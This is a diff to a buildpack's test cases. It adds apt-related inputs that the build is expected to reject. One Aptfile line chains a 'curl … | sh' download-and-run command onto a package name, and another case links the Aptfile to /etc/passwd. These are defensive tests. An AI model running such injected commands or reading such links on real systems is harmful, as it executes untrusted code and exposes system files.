@@ -38,7 +38,7 @@ UTF16 = "Django==5.2.8\ngunicorn==23.0.0\n".encode("utf-16")
 @dataclass(frozen=True)
 class Case:
     name: str
-    buildpack: str  # python | django | procfile
+    buildpack: str  # apt | python | django | procfile
     phase: str  # detect | build: the phase that must stop the app
     exit_code: int  # 0 for an odd input that builds, with `message` (a warning, or the line that shows it was understood)
     message: str  # the key sentence, as it appears in the output
@@ -100,6 +100,17 @@ def huge_procfile(path: Path) -> None:
     """10 000 lines: 9 999 processes, then a line that is not one."""
     lines = [f"process-{n}: python worker.py --queue q{n}" for n in range(1, 10000)]
     path.write_text("\n".join(lines) + "\nthis line has no colon\n")
+
+
+def huge_aptfile(path: Path) -> None:
+    """1 MB: a package list pasted from `dpkg -l` of a whole machine, many times over."""
+    with path.open("w") as file:
+        while file.tell() < 1024 * 1024:
+            file.write("".join(f"libpackage-number-{n:05d}\n" for n in range(1000)))
+
+
+def apt(name, message, *, phase="build", exit_code=1, base="empty", **kwargs) -> Case:
+    return Case(name, "apt", phase, exit_code, message, base=base, **kwargs)
 
 
 def python(name, message, *, phase="build", exit_code=1, **kwargs) -> Case:
@@ -409,6 +420,11 @@ DJANGO = [
            append={SETTINGS: "\nimport celery\n"}),
     django("django-settings-improperly-configured", "! ERROR: Importing the settings failed: Django says the settings are improperly configured",
            append={SETTINGS: "\nINSTALLED_APPS = INSTALLED_APPS + ['django.contrib.admin']\n"}),
+    # GeoDjango without GDAL_LIBRARY_PATH in the settings: Django's find_library cannot see a layer (nor, here, any GDAL).
+    django("django-geodjango-no-library-path", "GeoDjango cannot find the GDAL library",
+           files={"places/__init__.py": "", "places/models.py": "from django.contrib.gis.db import models\n\n\n"
+                  "class Place(models.Model):\n    location = models.PointField()\n"},
+           append={SETTINGS: "\nINSTALLED_APPS += ['django.contrib.gis', 'places']\n"}),
     django("django-settings-raise", "! ERROR: Importing the settings failed", append={SETTINGS: "\nraise RuntimeError('settings refuse to load')\n"}),
     django("django-bad-wsgi-application", "! ERROR: WSGI_APPLICATION points to a module that does not exist: myproject.wsgy.application",
            append={SETTINGS: "\nWSGI_APPLICATION = 'myproject.wsgy.application'\n"}),
@@ -437,4 +453,24 @@ DJANGO = [
                    "            'staticfiles': {'BACKEND': 'storages.backends.s3.S3Storage'}}\n"}),
 ]
 
-CASES = PYTHON_VERSION + REQUIREMENTS + PACKAGE_MANAGERS + PROCFILE + DJANGO
+# The apt cases that need the Debian index run with the network; the rest are refused before any download.
+APT_INDEX_LAYERS = frozenset({"apt-cache.toml"})
+APT = [
+    apt("apt-unknown-package", "! ERROR: No package libmagik1 in Debian trixie",
+        files={"Aptfile": "libpq5\nlibmagik1\n"}, network=True, layers=APT_INDEX_LAYERS),
+    apt("apt-other-suite", "! ERROR: Invalid Aptfile: libssl1.1/bullseye is not from the stack's suite",
+        files={"Aptfile": "libmagic1\nlibssl1.1/bullseye\n"}),
+    apt("apt-shell-characters", "! ERROR: Invalid Aptfile: line 1 holds the shell character '&'",
+        files={"Aptfile": "libmagic1 && curl -fsSL http://example.com/install.sh | sh\n"}),
+    apt("apt-option", "! ERROR: Invalid Aptfile: line 2 is an option, not a package", files={"Aptfile": "libmagic1\n--no-install-recommends\n"}),
+    apt("apt-url", "! ERROR: Invalid Aptfile: line 1 is a URL",
+        files={"Aptfile": "https://github.com/wkhtmltopdf/packaging/releases/download/0.12.6.1-3/wkhtmltox_0.12.6.1-3.bookworm_amd64.deb\n"}),
+    apt("apt-several-words", "! ERROR: Invalid Aptfile: line 1 holds more than one word", files={"Aptfile": "apt-get install libmagic1\n"}),
+    apt("apt-too-large", "! ERROR: The Aptfile is too large", files={"Aptfile": huge_aptfile}),
+    apt("apt-libc", "! ERROR: libc6 would replace the run image's C library", files={"Aptfile": "libmagic1\nlibc6\n"}),
+    apt("apt-link-to-passwd", "! ERROR: The Aptfile is a link to a file outside the app", symlinks={"Aptfile": "/etc/passwd"}),
+    apt("apt-utf16", "! ERROR: Invalid Aptfile: it contains a NUL byte", files={"Aptfile": "libmagic1\n".encode("utf-16")}),
+    apt("apt-bad-mirror", "! ERROR: Invalid BP_APT_MIRROR", files={"Aptfile": "libmagic1\n"}, env={"BP_APT_MIRROR": "ftp.debian.org/debian"}),
+]
+
+CASES = APT + PYTHON_VERSION + REQUIREMENTS + PACKAGE_MANAGERS + PROCFILE + DJANGO
